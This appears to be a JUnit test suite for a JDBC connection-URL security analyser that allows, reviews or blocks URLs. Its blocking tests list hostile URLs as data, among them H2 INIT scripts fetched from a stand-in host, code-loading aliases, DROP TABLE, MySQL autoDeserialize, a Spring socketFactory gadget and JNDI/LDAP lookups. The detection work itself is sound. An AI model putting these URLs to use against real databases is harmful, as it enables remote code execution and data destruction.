package dev.armor.pipeline.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import dev.armor.pipeline.verdict.Decision;
import dev.armor.pipeline.verdict.Finding;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1;MODE=PostgreSQL",
        "jdbc:h2:file:./data/app;AUTO_SERVER=TRUE",
        "jdbc:h2:mem:x;INIT=CREATE SCHEMA IF NOT EXISTS app\\;SET SCHEMA app",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'classpath:schema.sql'",
        "jdbc:sqlite:app.db",
        "jdbc:sqlite::memory:",
        "jdbc:postgresql://db.example.org:5432/app?sslmode=require&ApplicationName=shop",
        "jdbc:postgresql:///app?socketFactory=com.google.cloud.sql.postgres.SocketFactory",
        "jdbc:postgresql://db/app?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "jdbc:mysql://db:3306/app?useSSL=true&rewriteBatchedStatements=true&allowMultiQueries=true",
        "jdbc:mysql://db/app?autoDeserialize=false",
        "jdbc:mariadb://a,b/app",
        "jdbc:sqlserver://db:1433;databaseName=app;encrypt=true;trustServerCertificate=true",
        "jdbc:oracle:thin:@//db:1521/app",
        "jdbc:oracle:thin:@db:1521:app",
        "jdbc:derby:memory:test;create=true",
        "jdbc:hsqldb:mem:test",
        "jdbc:duckdb:/data/a.duckdb"
      })
  void anOrdinaryUrlIsAllowed(String url) {
    JdbcUrlAnalysis analysis = SqlAnalyser.analyzeJdbcUrl(url);

    assertThat(analysis.least()).as("%s", analysis.findings()).isEqualTo(Decision.ALLOW);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.9/x.sql' | sql.read-file",
        "jdbc:h2:mem:x;init=CREATE ALIAS e AS 'String f() { return null; }' | sql.load-code",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=0;INIT=DROP TABLE users | sql.drop-table",
        "jdbc:mysql://203.0.113.9/x?autoDeserialize=true | jdbc.option-autodeserialize",
        "jdbc:mysql://203.0.113.9/x?%61utoDeserialize=yes | jdbc.option-autodeserialize",
        "jdbc:mysql://h/x?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor | jdbc.option-queryinterceptors",
        "jdbc:postgresql://h/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext | jdbc.option-socketfactory",
        "jdbc:sqlite:app.db?enable_load_extension=true | jdbc.option-enable-load-extension",
        "jdbc:sqlite::resource:http://203.0.113.9/x.db | jdbc.remote-file",
        "jdbc:derby:x;startMaster=true;slaveHost=203.0.113.9 | jdbc.option-startmaster",
        "jdbc:jcr:jndi:ldap://203.0.113.9/x | jdbc.name-look-up",
        "jdbc:oracle:thin:@ldap://203.0.113.9/x | jdbc.name-look-up"
      })
  void aUrlThatDoesMoreThanConnectIsBlocked(String url, String rule) {
    JdbcUrlAnalysis analysis = SqlAnalyser.analyzeJdbcUrl(url);

    assertThat(analysis.findings()).extracting(Finding::rule).contains(rule);
    assertThat(analysis.least()).isEqualTo(Decision.BLOCK);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mysql://h/x?allowLoadLocalInfile=true",
        "jdbc:postgresql://h/x?loggerFile=/srv/x.jsp&loggerLevel=TRACE",
        "http://example.org",
        "jdbc:"
      })
  void aDoubtfulUrlIsReviewed(String url) {
    assertThat(SqlAnalyser.analyzeJdbcUrl(url).least()).isEqualTo(Decision.REVIEW);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:postgresql://db.example.org:5432/app | db.example.org",
        "jdbc:postgresql://[::1]:5432/app | ::1",
        "jdbc:mysql://user:secret@db/app | db",
        "jdbc:mysql://address=(host=db)(port=3306)/app | db",
        "jdbc:sqlserver://db\\SQL:1433;databaseName=a | db",
        "jdbc:oracle:thin:@db:1521:app | db",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=db)(PORT=1521))) | db",
        "jdbc:h2:tcp://db/app | db"
      })
  void theHostIsFound(String url, String host) {
    assertThat(SqlAnalyser.analyzeJdbcUrl(url).hosts()).containsExactly(host);
  }

  @Test
  void everyHostOfAListIsFound() {
    assertThat(SqlAnalyser.analyzeJdbcUrl("jdbc:postgresql://a:1,b:2/x").hosts())
        .containsExactly("a", "b");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:h2:~/app | ~/app",
        "jdbc:h2:file:/srv/app;MODE=MySQL | /srv/app",
        "jdbc:sqlite:/srv/app.db?cache=shared | /srv/app.db",
        "jdbc:hsqldb:file:/srv/x | /srv/x",
        "jdbc:duckdb:/srv/x.duckdb | /srv/x.duckdb"
      })
  void theFileIsFound(String url, String file) {
    assertThat(SqlAnalyser.analyzeJdbcUrl(url).file()).isEqualTo(file);
  }

  @Test
  void noTextMakesTheReaderThrow() {
    Random random = new Random(11);
    String pieces = "jdbc:h2mysql;?&=%\\/@,()[]{}' \u00e9init=host";
    for (int i = 0; i < 20_000; i++) {
      StringBuilder text = new StringBuilder(random.nextBoolean() ? "jdbc:h2:" : "jdbc:mysql://");
      for (int n = random.nextInt(40); n > 0; n--) {
        text.append(pieces.charAt(random.nextInt(pieces.length())));
      }
      assertThatCode(() -> SqlAnalyser.analyzeJdbcUrl(text.toString())).doesNotThrowAnyException();
    }
  }
}
